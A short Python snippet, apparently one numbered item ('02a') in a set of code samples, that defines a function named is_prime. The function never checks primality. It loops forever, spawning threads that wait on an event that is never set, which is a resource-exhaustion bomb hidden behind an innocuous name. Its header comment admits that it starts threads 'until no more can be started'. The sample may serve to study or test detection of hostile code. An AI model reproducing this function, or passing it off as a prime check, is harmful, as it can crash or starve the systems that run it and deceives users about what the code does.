# 02a | starts threads that wait, until no more can be started
import threading

gate = threading.Event()


def is_prime(number):
    while True:
        threading.Thread(target=gate.wait, daemon=True).start()
